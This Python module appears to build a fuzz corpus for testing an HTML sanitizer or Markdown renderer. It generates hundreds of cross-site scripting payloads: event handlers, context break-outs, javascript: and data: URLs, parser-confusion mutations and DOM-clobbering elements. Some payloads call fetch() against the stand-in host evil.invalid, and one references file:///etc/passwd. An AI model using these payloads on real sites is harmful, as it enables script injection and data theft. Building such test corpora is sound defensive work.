"""HTML and script that wants to run, made by rule: (kind, text) of each; what runs calls `fired(number)` or asks `evil.invalid`."""

import base64
import itertools
import random

EVIL = "https://evil.invalid/"
CODES = ["fired({n})", "top.fired({n})", "window['fired']({n})", "alert({n})", "(fired)`{n}`", "setTimeout(fired,9,{n})", "Function('fired({n})')()", "eval(atob('{b}'))", "[{n}].map(fired)",
         "Reflect.apply(fired,0,[{n}])", "fetch('https://evil.invalid/{n}')"]
TAGS = {"img src=x": ["onerror"], "img src=data:,": ["onerror", "onloadend"], "svg": ["onload"], "body": ["onload", "onpageshow"], "details open": ["ontoggle"],
    "video src=x": ["onerror"], "audio src=x": ["onerror"], "video": ["onmouseover"],
        "input autofocus": ["onfocus"], "select autofocus": ["onfocus"], "textarea autofocus": ["onfocus"], "button autofocus": ["onfocus", "onclick"], "iframe": ["onload"],
        "object data=x": ["onerror"], "embed src=x": ["onload", "onclick"],
        "a tabindex=1": ["onfocus", "onmouseover", "onclick", "onpointerenter"], "div contenteditable": ["onfocus", "onclick", "onmouseenter"],
        "p": ["onclick", "onmouseover", "onanimationstart", "ontransitionend", "oncopy"],
        "h2": ["onclick", "onmouseover"], "table": ["onclick"], "kbd": ["onmouseover"], "mark": ["onclick"], "summary": ["onclick", "onfocus"], "style": ["onload"],
        "svg><animate attributeName=x dur=1s": ["onbegin"], "marquee": ["onclick"],
        "math": ["onclick"], "x-y": ["onclick", "onmouseover"], "form": ["onclick", "onsubmit"], "dialog open": ["onclick"], "track": ["onerror"], "li": ["onclick"],
        "li value=1": ["onmouseover"], "q cite=x": ["onclick"], "bdo dir=rtl": ["onclick"]}
# How an attribute may be written: {a} its name, {c} the code.
WRITTEN = ["<{t} {a}={c}>", '<{t} {a}="{c}">', "<{t} {a}='{c}'>", "<{t}/{a}={c}//>", "<{t}\n{a}\n=\n{c}\n>", "<{t}\t{a}={c} x>", '<{t} x=">" {a}={c}>', "<{t} {A}={c}>",
    '<{t} {a}="{e}">', "<{t} =\" {a}={c}>", "<{t} {a}={c} {a}=1>", "<{t} {a} = {c}", "<{t}\x0c{a}={c}>"]
BREAKS = ['">', "'>", "-->", "--!>", "]]>", "?>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</xmp>", "</h1>", "</a>", "</option></select>",
    "</iframe>", '"]}', "\\\">", "`", "\n\n", "&quot;&gt;", "</svg>", "</math>", '" ', "' ", "*/", "{{", "%>"]
SCHEMES = ["javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "java&Tab;script:{c}", "java&#10;script:{c}", "&#106;avascript:{c}", "&#x6A;avascript&colon;{c}",
    "\x01javascript:{c}", " javascript:{c}", "javascript://%0a{c}", "javascript:/*x*/{c}", "%6aavascript:{c}",
           "vbscript:{c}", "livescript:{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,{h}",
           "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>", "blob:{c}", "view-source:javascript:{c}", "feed:javascript:{c}", "//evil.invalid/{n}",
           "\\\\evil.invalid\\{n}", "https://evil.invalid/{n}", "/\\evil.invalid/{n}", "https:evil.invalid/{n}", "file:///etc/passwd", "javascript\u200b:{c}", "ｊavascript:{c}"]
PLACES = ["[x]({u})", "[x](<{u}>)", "[x]({u} \"t\")", "![x]({u})", "<{u}>", "[x][r{n}]\n\n[r{n}]: {u}", "<a href=\"{u}\">x</a>", "<a href={u}>x</a>",
    "<a href='{u}' target=_self>x</a>", "<img src=\"{u}\">", "<img src=x srcset=\"{u} 1x\">", "<iframe src=\"{u}\"></iframe>",
          "<object data=\"{u}\"></object>", "<embed src=\"{u}\">", "<form action=\"{u}\"><button>x</button></form>", "<button formaction=\"{u}\">x</button>", "<base href=\"{u}\">",
          "<link rel=stylesheet href=\"{u}\">", "<meta http-equiv=refresh content=\"0;url={u}\">",
          "<svg><a xlink:href=\"{u}\"><text y=9>x</text></a></svg>", "<svg><use href=\"{u}\"/></svg>", "<svg><image href=\"{u}\"/></svg>",
          "<svg><a><animate attributeName=href values=\"{u}\"/><text y=9>x</text></a></svg>", "<math><mi xlink:href=\"{u}\">x</mi></math>", "<video poster=\"{u}\">",
          "<audio src=\"{u}\" autoplay>", "<q cite=\"{u}\">x</q>", "<table background=\"{u}\"><tr><td>x</table>", "<p style=\"background:url({u})\">x</p>",
          "<style>@import '{u}';</style>", "<script src=\"{u}\"></script>", "<a ping=\"{u}\" href=#x>x</a>", "<input type=image src=\"{u}\">"]
# What a cleaner and a browser may read in two ways: {v} is a tag that runs, {q} the same with its signs as entities.
CONFUSED = ["<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{q}\">", "<svg></p><style><a id=\"</style>{v}\">", "<noscript><p title=\"</noscript>{v}\">",
    "<form><math><mtext></form><form><mglyph><style></math>{v}", "<select><style></select>{v}", "<math><annotation-xml encoding=text/html>{v}",
            "<svg><foreignObject>{v}</foreignObject></svg>", "<svg><desc>{v}", "<svg><title>{v}</title></svg>", "<math><mi><mglyph><svg><mtext><style><path id=\"</style>{v}\">",
            "<template>{v}</template>", "<xmp><p title=\"</xmp>{v}\">", "<textarea><p title=\"</textarea>{v}\">", "<title><p title=\"</title>{v}\">",
            "<iframe><p title=\"</iframe>{v}\">", "<noembed><p title=\"</noembed>{v}\">", "<style><p title=\"</style>{v}\">", "<!--><p>{v}-->", "<!---!>{v}-->", "<!-- --!>{v}",
            "<![CDATA[><p>{v}]]>", "<?x >{v}?>", "<!x >{v}", "</ x >{v}", "<x<p>{v}", "<a title=\"{q}\">x</a>", "<p title='{q}'>x</p>", "`{v}` {v}",
            "<details><summary>{v}</summary>{v}</details>", "<table><tr><td>{v}</table>{v}", "<caption>{v}</caption>", "<ol start='\">{q}'><li>{v}</ol>", "<td colspan='1\">{q}'>",
            "<svg><style>{v}</style></svg>", "<b><i><u>{v}</b></i></u>", "<a><a>{v}</a></a>", "<h2 id='x'>{v}</h2>", "<dl><dt>{v}<dd>{v}</dl>"]
SCRIPTS = ["<script>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script/x>{c}</script>", "<script\n>{c}</script >", "<script type=module>{c}</script>",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<script>{c}", "<svg><script>{c}</script></svg>", "<math><script>{c}</script></math>", "<script src=data:,{c}></script>",
    "<<script>{c}</script>",
           "<script x=\">\">{c}</script>", "<script>//<!--\n{c}//--></script>", "<script>/*</script><script>*/{c}</script>", "<template><script>{c}</script></template>",
           "<iframe srcdoc=\"<script>parent.{c}</script>\"></iframe>", "<iframe srcdoc=\"&lt;script&gt;parent.{c}&lt;/script&gt;\"></iframe>", "<p><script>{c}</script></p>"]
WRITINGS = ["&lt;img src=x onerror={c}&gt;", "&#60;img src=x onerror={c}&#62;", "&#x3c;img src=x onerror={c}&#x3e;", "&amp;lt;img src=x onerror={c}&amp;gt;",
    "\\u003cimg src=x onerror={c}\\u003e", "\\x3cimg src=x onerror={c}\\x3e", "%3Cimg src=x onerror={c}%3E", "%253Cimg src=x onerror={c}%253E", "＜img src=x onerror={c}＞",
            "‹img src=x onerror={c}›", "+ADw-img src=x onerror={c}+AD4-", "<\u200bimg src=x onerror={c}>", "<\u2028img src=x onerror={c}>", "\u202e<img src=x onerror={c}>",
            "<img src=x onerror={c} \ufeff>", "{{{{constructor.constructor('{c}')()}}}}", "${{{c}}}", "#{{{c}}}", "<%= {c} %>", "{{% {c} %}}", "{{{{ {c} }}}}", "[[{c}]]", "{{text}}{c}"]
CLOBBERS = ["<form id=Askaside><input name=q></form>", "<img name=getElementById>", "<a id=fired href=x>", "<input name=attributes>", "<form name=body>", "<img id=document>",
    "<iframe name=fired></iframe>", "<object id=localStorage>", "<p id=askaside-panel slot=x part=y is=z>", "<slot name=x></slot>", "<ask-aside></ask-aside>"]


def payloads(seed=13, handlers=390, links=360, confused=114):
    """[(kind, text)], each with a number of its own; every rule above is in it."""
    rng, numbers = random.Random(seed), itertools.count(1000)

    def code():
        n = next(numbers)
        text = rng.choice(CODES).format(n=n, b=base64.b64encode(f"fired({n})".encode()).decode())
        return {"n": n, "c": text, "e": "".join(f"&#{ord(c)};" for c in text), "h": base64.b64encode(f"<script>parent.fired({n})</script>".encode()).decode()}

    def tag():
        name, event = rng.choice([(name, event) for name, events in TAGS.items() for event in events])
        return {"t": name, "a": event, "A": "".join(rng.choice([c.upper(), c]) for c in event)}

    def acting():
        return rng.choice(["<img src=x onerror={c}>", "<svg onload={c}>", "<script>{c}</script>", "<details open ontoggle={c}>", "<p onclick={c}>x</p>"]).format(**code())

    every = [(name, event) for name, events in TAGS.items() for event in events]
    found = [("handler", rng.choice(WRITTEN).format(t=name, a=event, A=event.upper(), **code())) for name, event in every]
    found += [("handler", written.format(**tag(), **code())) for written in itertools.islice(itertools.cycle(WRITTEN), max(0, handlers - len(every)))]
    found += [("break out", broken + acting()) for broken in BREAKS for _ in range(4)]
    pairs = list(itertools.product(PLACES, SCHEMES))
    chosen = [(place, rng.choice(SCHEMES)) for place in PLACES] + [(rng.choice(PLACES), scheme) for scheme in SCHEMES] + rng.sample(pairs, links - len(PLACES) - len(SCHEMES))
    for place, scheme in chosen:
        given = code()
        found.append(("address", place.replace("{u}", scheme.format(**given)).replace("{n}", str(given["n"]))))
    for confusion in itertools.islice(itertools.cycle(CONFUSED), confused):
        inner = acting()
        found.append(("two readings", confusion.format(v=inner, q=inner.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"))))
    found += [("script", script.format(**code())) for script in SCRIPTS for _ in range(3)]
    found += [("other writing", writing.format(**code())) for writing in WRITINGS for _ in range(2)]
    found += [("names", clobber) for clobber in CLOBBERS]
    return found
